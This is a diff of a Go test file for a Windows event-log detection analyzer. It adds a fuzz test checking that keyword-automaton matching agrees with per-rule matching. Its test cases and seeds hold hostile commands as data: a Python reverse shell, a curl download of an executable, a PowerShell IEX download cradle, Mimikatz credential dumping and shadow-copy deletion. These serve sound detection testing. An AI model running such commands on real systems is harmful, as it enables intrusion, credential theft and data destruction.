@@ -1,6 +1,9 @@
 package analyzers
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 // block is a 4104 script block logged at Verbose level.
 func block(id, text string) ev {
@@ -51,5 +54,42 @@ func TestContentRules(t *testing.T) {
 		{"curl in a command line", []ev{security4688(cmd, expl, `cmd /c curl http://10.0.0.5/a.exe`)}, "T1059.003", "medium", "cmd.exe /c download"},
 		{"python reverse shell", []ev{security4688(`C:\Python39\python.exe`, cmd, `python -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',1234));os.dup2(s.fileno(),0)"`)},
 			"T1059.006", "high", "python.exe reverse-shell"},
+	})
+}
+
+// matchContentEach is matchContent as it was, a search per keyword over
+// the text lowered: the reference the automaton's pass must agree with.
+func matchContentEach(text string) []contentMatch {
+	var out []contentMatch
+	lower := strings.ToLower(text)
+	for i := range contentRules {
+		if !containsAny(lower, contentRules[i].keywords) {
+			continue
+		}
+		if m := contentRules[i].re.FindString(text); m != "" {
+			out = append(out, contentMatch{&contentRules[i], m})
+		}
+	}
+	return out
+}
+
+// FuzzMatchContent: the content rules tried after one pass of the
+// keywords' automaton match what trying each rule's keywords in turn
+// matched, on any text (letters that lower to ASCII ones included).
+func FuzzMatchContent(f *testing.F) {
+	for _, seed := range []string{"Invoke-\u212Aerberoast", "SEKURLSA::logonpasswords", "net user x /add", "İnvoke-Mimikatz",
+		"vssadmin delete shadows /all", "IEX (New-Object Net.WebClient).DownloadString('http://x')", ""} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		got, want := matchContent(text), matchContentEach(text)
+		if len(got) != len(want) {
+			t.Fatalf("%q: %d matches, want %d", text, len(got), len(want))
+		}
+		for i := range got {
+			if got[i] != want[i] {
+				t.Fatalf("%q: match %d is %s %q, want %s %q", text, i, got[i].rule.name, got[i].matched, want[i].rule.name, want[i].matched)
+			}
+		}
 	})
 }
